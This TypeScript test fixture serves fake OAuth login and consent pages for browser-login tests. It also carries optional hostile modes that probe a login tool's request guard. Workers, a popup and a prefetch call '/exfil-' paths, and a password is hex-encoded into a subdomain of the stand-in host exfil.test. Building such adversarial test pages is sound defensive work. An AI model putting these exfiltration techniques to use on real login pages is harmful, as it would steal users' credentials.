/**
 * Login pages the way an AS serves them (a user and password form, then a consent page), for
 * the browser login tests: served by startTlsTestServer on 127.0.0.1.
 */
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { TLSSocket } from 'node:tls';
import type { RawLogin } from '../../lib/target/raw-config.js';

export const PASSWORD = 'correct horse battery staple';
export const LOGIN_ENV = { MTLS_LOGIN_USER: 'alice', MTLS_LOGIN_PASSWORD: PASSWORD };

/** `${NAME}` as a login value writes it: the environment variable NAME. */
export function fromEnv(name: string): string {
  return `\${${name}}`;
}

/** The login of these pages: user and password, then a consent button. */
export const LOGIN_STEPS: RawLogin['steps'] = [
  {
    url: '**/login*',
    fill: [
      { selector: 'input[name=user]', value: fromEnv('MTLS_LOGIN_USER') },
      { selector: 'input[name=password]', value: fromEnv('MTLS_LOGIN_PASSWORD') },
    ],
    click: 'button[type=submit]',
  },
  { url: '**/consent', click: '#allow' },
];

function page(body: string): string {
  return `<!doctype html><html><head><title>login</title></head><body>${body}</body></html>`;
}

export interface Seen {
  logins: number;
  /** Whether any request of the browser came with a client certificate. */
  clientCertificates: number;
  paths: string[];
}

/**
 * A login page the way an AS serves one: /authorize sends the browser to /login (or straight
 * back when its session cookie is there), the form posts to /login, the consent to /consent,
 * which redirects to the client's redirect URI with a code. /elsewhere sends the browser to
 * another origin (`other`). With `approve`, the code is a real one: the authorization request (its query)
 * is handed to `approve`, which answers with the Location to send the browser to.
 */
export interface LoginPagesOptions {
  seen: Seen;
  redirectUri: string;
  /** Where /elsewhere sends the browser. */
  other?: () => string;
  approve?: (query: string) => Promise<string>;
  /**
   * A hostile page: a login echoes the password into the title and the page, and stops; `hex`:
   * spelled in hex, and a request to a host name made of it.
   */
  echoPassword?: boolean | 'hex';
  /**
   * A hostile login form that reaches for this origin from wherever a page's own request guard
   * may not look: a dedicated and a shared worker, a popup, a prefetch. Each asks for a path
   * under /exfil-.
   */
  exfiltrateTo?: () => string;
}

/** The scripts and links a hostile login form (exfiltrateTo) carries. */
function exfiltration(origin: string): string {
  const to = (what: string) => JSON.stringify(`${origin}/exfil-${what}`);
  return [
    `<link rel="prefetch" href=${to('prefetch')}>`,
    `<script>new Worker('/worker.js?to=' + encodeURIComponent(${to('worker')}));`,
    `try { new SharedWorker('/worker.js?to=' + encodeURIComponent(${to('shared-worker')})); } catch {}`,
    `window.open(${to('popup')});</script>`,
  ].join('');
}

export function loginPages(opts: LoginPagesOptions) {
  const { seen, redirectUri, approve } = opts;
  return (req: IncomingMessage, res: ServerResponse) => {
    const url = new URL(req.url ?? '/', 'https://127.0.0.1');
    seen.paths.push(`${req.method} ${url.pathname}`);
    const socket = req.socket as TLSSocket;
    if (Object.keys(socket.getPeerCertificate()).length > 0) seen.clientCertificates++;
    const html = (body: string) =>
      res.writeHead(200, { 'content-type': 'text/html' }).end(page(body));
    const back = () => {
      if (approve !== undefined) {
        approve(url.search).then(
          (location) => res.writeHead(302, { location }).end(),
          () => res.writeHead(502).end(),
        );
        return;
      }
      const to = new URL(redirectUri);
      to.searchParams.set('code', 'the-code-0123456789');
      to.searchParams.set('state', url.searchParams.get('state') ?? 'from-session');
      res.writeHead(302, { location: to.href }).end();
    };
    if (url.pathname === '/authorize') {
      if ((req.headers.cookie ?? '').includes('session=alice')) {
        // prompt=consent (OIDC): a signed-in session is shown the consent page alone.
        if (url.searchParams.get('prompt') !== 'consent') return back();
        return res.writeHead(302, { location: `/consent${url.search}` }).end();
      }
      return res.writeHead(302, { location: `/login${url.search}` }).end();
    }
    if (url.pathname === '/login' && req.method === 'GET') {
      const hostile = opts.exfiltrateTo === undefined ? '' : exfiltration(opts.exfiltrateTo());
      return html(
        `<form method="post" action="/login${url.search}"><input name="user"><input type="password" name="password"><button type="submit">Sign in</button></form>${hostile}`,
      );
    }
    if (url.pathname === '/worker.js') {
      // Sends for as long as the worker lives: a guard that misses the worker misses them all.
      const to = JSON.stringify(url.searchParams.get('to') ?? '');
      return res
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end(
          `const send = () => fetch(${to}, { mode: 'no-cors' }).catch(() => undefined); send(); setInterval(send, 50);`,
        );
    }
    if (url.pathname === '/login' && req.method === 'POST') {
      let body = '';
      req.on('data', (c: Buffer) => {
        body += c.toString();
      });
      req.on('end', () => {
        const form = new URLSearchParams(body);
        if (form.get('user') !== 'alice' || form.get('password') !== PASSWORD) {
          html('<p>wrong user or password</p>');
          return;
        }
        seen.logins++;
        if (opts.echoPassword !== undefined && opts.echoPassword !== false) {
          const typed = form.get('password') ?? '';
          const hex = Buffer.from(typed).toString('hex');
          const echo = opts.echoPassword === 'hex' ? hex : typed;
          const probe =
            opts.echoPassword === 'hex'
              ? `<img src="https://${hex}.exfil.test/x.png"><script>fetch('https://${typed.replaceAll(' ', '-').toLowerCase()}.exfil.test/')</script>`
              : '';
          res
            .writeHead(200, { 'content-type': 'text/html' })
            .end(`<!doctype html><title>${echo}</title><p>Welcome back, ${echo}</p>${probe}`);
          return;
        }
        res
          .writeHead(302, {
            location: `/consent${url.search}`,
            'set-cookie': 'session=alice; Path=/; Secure; HttpOnly',
          })
          .end();
      });
      return;
    }
    if (url.pathname === '/consent' && req.method === 'GET') {
      return html(
        `<form method="post" action="/consent${url.search}"><button id="allow" type="submit">Allow</button></form>`,
      );
    }
    if (url.pathname === '/consent' && req.method === 'POST') {
      return back();
    }
    if (url.pathname === '/elsewhere') {
      return res.writeHead(302, { location: `${opts.other?.() ?? ''}/login` }).end();
    }
    res.writeHead(404).end();
  };
}
